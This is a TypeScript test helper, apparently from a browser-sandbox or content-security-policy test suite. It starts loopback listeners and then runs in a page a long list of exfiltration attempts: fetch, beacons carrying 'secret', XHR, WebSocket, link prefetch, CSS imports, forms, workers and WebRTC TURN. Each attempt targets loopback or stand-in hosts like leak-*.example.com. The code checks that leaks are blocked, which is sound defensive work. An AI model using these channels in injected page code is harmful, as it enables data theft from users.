import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';

/** Listeners on loopback for whatever a page might send: how many connections and datagrams came. */
export interface LeakListeners {
  readonly tcpPort: number;
  readonly udpPort: number;
  tcp(): number;
  udp(): number;
  close(): Promise<void>;
}

export async function listenForLeaks(): Promise<LeakListeners> {
  let connections = 0;
  let datagrams = 0;
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    connections += 1;
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const udp = createSocket('udp4');
  udp.on('message', () => (datagrams += 1));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  return {
    tcpPort: (server.address() as AddressInfo).port,
    udpPort: udp.address().port,
    tcp: () => connections,
    udp: () => datagrams,
    async close() {
      for (const socket of sockets) socket.destroy();
      udp.close();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** What injected code tries to get out by; run in the page. Resolves to what each attempt answered. */
export async function tryEveryLeak({
  tcpPort,
  udpPort,
}: {
  readonly tcpPort: number;
  readonly udpPort: number;
}): Promise<Record<string, string>> {
  const tried: Record<string, string> = {};
  const at = (path: string): string => `http://127.0.0.1:${tcpPort}/${path}`;
  const named = (path: string): string => `http://leak-${path}.example.com/`;
  const within = <T>(work: Promise<T>): Promise<T | string> =>
    Promise.race([
      work,
      new Promise<string>((resolve) => setTimeout(() => resolve('silent'), 1500)),
    ]);
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try {
      tried[name] = String(await within(Promise.resolve(work())));
    } catch (error) {
      tried[name] = error instanceof Error ? error.name : String(error);
    }
  };
  const add = (tag: string, attributes: Record<string, string>): void => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.head.append(element);
  };
  for (const [name, url] of [
    ['address', at],
    ['name', named],
  ] as const) {
    await attempt(`fetch ${name}`, () => fetch(url('fetch'), { mode: 'no-cors' }));
    await attempt(`beacon ${name}`, () => navigator.sendBeacon(url('beacon'), 'secret'));
    await attempt(`XMLHttpRequest ${name}`, () => {
      const request = new XMLHttpRequest();
      request.open('POST', url('xhr'));
      request.send('secret');
    });
    await attempt(`WebSocket ${name}`, () => new WebSocket(url('ws').replace('http', 'ws')));
    await attempt(`EventSource ${name}`, () => new EventSource(url('events')));
    await attempt(`image ${name}`, () => void (new Image().src = url('image')));
    await attempt(`audio ${name}`, () => new Audio(url('audio')).play());
    for (const rel of [
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'preload',
      'stylesheet',
      'icon',
      'manifest',
      'prerender',
    ])
      await attempt(`link ${rel} ${name}`, () => add('link', { rel, href: url(rel), as: 'image' }));
    await attempt(`script ${name}`, () => add('script', { src: url('script') }));
    await attempt(`iframe ${name}`, () => add('iframe', { src: url('iframe') }));
    await attempt(`object ${name}`, () => add('object', { data: url('object') }));
    await attempt(`embed ${name}`, () => add('embed', { src: url('embed') }));
    await attempt(`style ${name}`, () => {
      const style = document.createElement('style');
      style.textContent = `@import url(${url('import')}); @font-face { font-family: x; src: url(${url('font')}); } body { background: url(${url('background')}); font-family: x, sans-serif; }`;
      document.head.append(style);
    });
    await attempt(`meta refresh ${name}`, () =>
      add('meta', { 'http-equiv': 'refresh', content: `0; url=${url('refresh')}` }),
    );
    await attempt(`window ${name}`, () => window.open(url('open')));
    await attempt(`form ${name}`, () => {
      const form = document.createElement('form');
      form.action = url('form');
      form.method = 'post';
      document.body.append(form);
      form.submit();
    });
    await attempt(`navigation ${name}`, () => void (location.href = url('navigation')));
    await attempt(`worker ${name}`, () => new Worker(url('worker')));
    await attempt(`service worker ${name}`, () => navigator.serviceWorker.register(url('sw')));
    await attempt(`WebTransport ${name}`, () => {
      const transport: unknown = Reflect.get(window, 'WebTransport');
      return typeof transport === 'function'
        ? (
            Reflect.construct(transport, [`https://127.0.0.1:${udpPort}/`]) as {
              ready: Promise<unknown>;
            }
          ).ready
        : 'absent';
    });
  }
  for (const host of ['127.0.0.1', 'leak-stun.example.com'])
    await attempt(`WebRTC ${host}`, async () => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${host}:${udpPort}` },
          { urls: `turn:${host}:${udpPort}?transport=udp`, username: 'secret', credential: 'b' },
          { urls: `turn:${host}:${tcpPort}?transport=tcp`, username: 'secret', credential: 'b' },
        ],
      });
      const found: string[] = [];
      connection.onicecandidate = ({ candidate }) =>
        void (candidate && found.push(candidate.type ?? ''));
      connection.createDataChannel('out');
      await connection.setLocalDescription(await connection.createOffer());
      // A candidate of the attacker's, so that checks are sent to it.
      const theirs = new RTCPeerConnection();
      theirs.createDataChannel('out');
      await theirs.setRemoteDescription(connection.localDescription!);
      await theirs.setLocalDescription(await theirs.createAnswer());
      await connection.setRemoteDescription(theirs.localDescription!);
      await connection.addIceCandidate({
        candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${udpPort} typ host`,
        sdpMid: '0',
      });
      // Gathering ends with an event; that no check is sent has none, and the first would go within 50 ms of it.
      if (connection.iceGatheringState !== 'complete')
        await new Promise<void>((resolve) => {
          connection.onicegatheringstatechange = () => {
            if (connection.iceGatheringState === 'complete') resolve();
          };
        });
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      connection.close();
      theirs.close();
      return found.join();
    });
  return tried;
}
